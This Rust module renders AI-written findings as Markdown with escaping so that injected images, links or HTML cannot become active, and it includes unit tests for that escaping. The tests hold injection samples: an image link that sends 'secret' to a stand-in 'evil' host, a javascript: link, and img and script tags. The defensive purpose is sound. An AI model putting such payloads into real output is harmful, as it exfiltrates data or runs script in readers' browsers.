//! A finding as Markdown.
//!
//! A model that has read untrusted text wrote it, so no image, link or HTML in it may become active
//! in the reader's browser.

use std::fmt::Write;

use super::parts::{Body, Grade, Part, Place, parts};
use crate::model::{Finding, mask, plain_text, unmask_markdown};

/// Without a title.
pub fn markdown(finding: &Finding) -> String {
    markdown_of(&parts(finding))
}

/// As a comment on the work item. It says first that no person wrote it.
pub fn comment(finding: &Finding) -> String {
    format!("{COMMENT_OPENING}\n\n{}", markdown(finding))
}

/// Opening of every comment.
const COMMENT_OPENING: &str = "**Written by a program (heartbeat), not by a person.** It read this \
    item and the code and may be wrong. If it is, reply \u{201c}wrong\u{201d} with the reason to \
    whoever runs heartbeat: they record it with `heartbeat feedback`.";

/// The same, of parts that may have links.
pub fn markdown_of(parts: &[Part]) -> String {
    let mut page = String::new();
    for part in parts {
        let text = match &part.body {
            Body::Text(text) => mask(text),
            Body::List(entries) => list(entries.iter().map(|text| mask(text))),
            Body::Ranked(entries) => ranked(entries.iter().map(|text| mask(text))),
            Body::Places(places) => list(places.iter().map(place)),
            Body::Grades(grades) => grades.iter().map(grade).collect::<Vec<_>>().join(" \u{b7} "),
            Body::Code(text) => block(text, "diff"),
        };
        section(&mut page, part.title, &text);
    }
    unmask_markdown(&page)
}

fn grade(grade: &Grade) -> String {
    format!("{} **{}**", grade.name, grade.value)
}

fn place(place: &Place) -> String {
    let name = format!("`{}`", code(&place.name()));
    let name = match &place.address {
        Some(address) => format!("[{name}]({address})"),
        None => name,
    };
    let notes: String = place.notes.iter().map(|note| format!(" ({note})")).collect();
    let quote = place.quote.as_deref().map(|quote| format!("\n\n{}", block(quote, "")));
    format!("{name}{notes}: {}{}", mask(&place.text), quote.unwrap_or_default())
}

/// Fenced; the fence is longer than any in the text, so that no text can end it.
fn block(text: &str, language: &str) -> String {
    let text = plain_text(text);
    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or_default();
    let fence = "`".repeat(longest.max(2) + 1);
    format!("{fence}{language}\n{}\n{fence}", mask(&text))
}

fn section(page: &mut String, title: &str, text: &str) {
    // Writing to a String cannot fail.
    let _ = match title {
        "" => writeln!(page, "{text}"),
        title => write!(page, "\n#### {title}\n\n{text}\n"),
    };
}

fn list(entries: impl Iterator<Item = String>) -> String {
    let lines: Vec<String> =
        entries.map(|entry| format!("- {}", entry.replace('\n', "\n  "))).collect();
    lines.join("\n")
}

fn ranked(entries: impl Iterator<Item = String>) -> String {
    let lines: Vec<String> = (1..)
        .zip(entries)
        .map(|(at, entry)| format!("{at}. {}", entry.replace('\n', "\n   ")))
        .collect();
    lines.join("\n")
}

fn code(path: &str) -> String {
    mask(&plain_text(path).replace('`', "").replace('\n', " "))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{Confidence, Effort, FileReference, Risk};

    fn finding() -> Finding {
        Finding {
            summary: "The total is rounded twice.".into(),
            likely_causes: vec!["Rounding per line.".into(), "And in the sum.".into()],
            files: vec![
                FileReference {
                    role: None,
                    read: None,
                    path: "src/total.rs".into(),
                    reason: "sums up".into(),
                    exists: Some(true),
                },
                FileReference {
                    role: None,
                    read: None,
                    path: "src/gone.rs".into(),
                    reason: "rounds".into(),
                    exists: Some(false),
                },
            ],
            suggested_change: "1. Round once.\n2. Test it.".into(),
            risk: Risk::Low,
            effort: Effort::Small,
            confidence: Confidence::High,
            open_questions: vec![],
            tests: Vec::new(),
            pitfalls: Vec::new(),
            not_checked: Vec::new(),
            evidence: Vec::new(),
            patch: String::new(),
            patch_test: String::new(),
            proof: None,
        }
    }

    #[test]
    fn reads_well() {
        let expected = "The total is rounded twice.

#### Assessment

risk **low** \u{b7} effort **small** \u{b7} confidence **high** \u{b7} proof **not checked**

#### Likely causes

1. Rounding per line.
2. And in the sum.

#### Where to look

- `src/total.rs`: sums up
- `src/gone.rs` (not in the repository): rounds

#### Suggested change

1. Round once.
2. Test it.
";
        assert_eq!(markdown(&finding()), expected);
    }

    #[test]
    fn nothing_in_it_becomes_an_image_a_link_or_html() {
        let mut finding = finding();
        finding.summary =
            "![x](http://evil/?q=secret) <img src=x> [a](javascript:1)\n# Big\n[b]: http://evil"
                .into();
        finding.files[0].path = "a`</code><script>`".into();
        let page = markdown(&finding);
        for bad in ["![", "](", "<img", "\n# Big", "[b]:"] {
            assert!(!page.contains(bad), "{bad} in {page}");
        }
        assert!(page.contains("- `a</code><script>`:"), "inside code, harmless: {page}");
    }

    /// The inline code of a page and the text of its code blocks, as a parser sees them.
    fn code_in(page: &str) -> Vec<String> {
        use pulldown_cmark::{Event, Parser, Tag, TagEnd};
        let (mut found, mut block) = (Vec::new(), None::<String>);
        for event in Parser::new(page) {
            match event {
                Event::Code(code) => found.push(code.to_string()),
                Event::Start(Tag::CodeBlock(_)) => block = Some(String::new()),
                Event::Text(text) if block.is_some() => block.as_mut().unwrap().push_str(&text),
                Event::End(TagEnd::CodeBlock) => found.extend(block.take()),
                _ => {}
            }
        }
        found
    }

    #[test]
    fn code_is_shown_as_it_is() {
        let mut finding = finding();
        finding.files.clear();
        finding.summary = "`grams <= band.upToGrams` & <b>, `a && b | c`, ``a`<b>``".into();
        finding.likely_causes = vec![
            "`[a-z]\\(x` and `![i](j)` and `&lt;`".into(),
            "see\n\n```cpp\n#include <map>\nif (a < b && c[0](d)) {}\n---\n```".into(),
        ];
        let page = markdown(&finding);
        let expected = [
            "grams <= band.upToGrams",
            "a && b | c",
            "a`<b>",
            "[a-z]\\(x",
            "![i](j)",
            "&lt;",
            "#include <map>\nif (a < b && c[0](d)) {}\n---\n",
        ];
        assert_eq!(code_in(&page), expected, "{page}");
        assert!(page.contains(" &amp; &lt;b>, "), "{page}");
    }

    #[test]
    fn what_only_looks_like_code_is_escaped() {
        for text in [
            "a ` <img src=x>",
            "``<img src=x>`",
            "`a\n<img src=x>\n`",
            "`a|<img src=x>`\n-|-",
            "\\`<img src=x>`",
            "`a` <img src=x> `b`",
        ] {
            let mut finding = finding();
            finding.summary = text.into();
            finding.files[0].reason = text.into();
            let page = markdown(&finding);
            assert!(!page.contains("<img"), "{page}");
        }
        let mut finding = finding();
        finding.files[0].path = "a|<img src=x>".into();
        finding.files[0].reason = "b\n-|-".into();
        assert!(!markdown(&finding).contains("<img"), "a table splits code at `|`");
    }
}
